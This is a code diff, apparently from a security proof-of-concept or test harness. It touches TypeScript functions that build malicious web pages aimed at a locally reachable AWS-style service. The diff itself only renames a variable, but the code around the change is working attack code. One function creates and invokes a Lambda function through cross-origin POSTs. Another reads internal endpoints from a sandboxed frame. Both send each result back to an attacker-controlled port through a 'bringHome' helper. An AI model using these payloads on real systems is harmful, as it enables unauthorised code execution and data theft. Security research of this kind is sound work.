@@ -96,12 +96,12 @@ export const createFunction = (attackerPort: number, name = newName()) => `
   const created = await post(functions, ${JSON.stringify(functionRequest(name))});
   if (created.ok) {
     await bringHome('created ' + await created.text());
-    let answer;
-    for (let attempt = 0; attempt < 20 && !answer?.ok; attempt += 1) {
+    let response;
+    for (let attempt = 0; attempt < 20 && !response?.ok; attempt += 1) {
       await new Promise((resolve) => setTimeout(resolve, 200));
-      answer = await post(functions + '/${name}/invocations', '{}');
+      response = await post(functions + '/${name}/invocations', '{}');
     }
-    await bringHome('ran as ' + await answer.text());
+    await bringHome('ran as ' + await response.text());
   }
 </script>`;
 
@@ -173,7 +173,7 @@ export const sandboxedFrame = (html: string) =>
     .replaceAll('&', '&amp;')
     .replaceAll('"', '&quot;')}"></iframe>`;
 
-/** To such a page the sandbox is its own origin: it reads each answer. */
+/** To such a page the sandbox is its own origin: it reads each response. */
 export const readEverything = (attackerPort: number) => `
 <script type="module">
   ${bringHome(attackerPort)}
@@ -185,8 +185,8 @@ export const readEverything = (attackerPort: number) => `
     '${new URL(signedUrl(`${endpoint}/2015-03-31/functions`, 'lambda', {})).href.replace(endpoint, '')}',
   ];
   for (const path of paths) {
-    const answer = await fetch(path);
-    if (answer.ok) await bringHome(path + ' ' + await answer.text());
+    const response = await fetch(path);
+    if (response.ok) await bringHome(path + ' ' + await response.text());
   }
   const rows = await fetch('/', {
     method: 'POST',
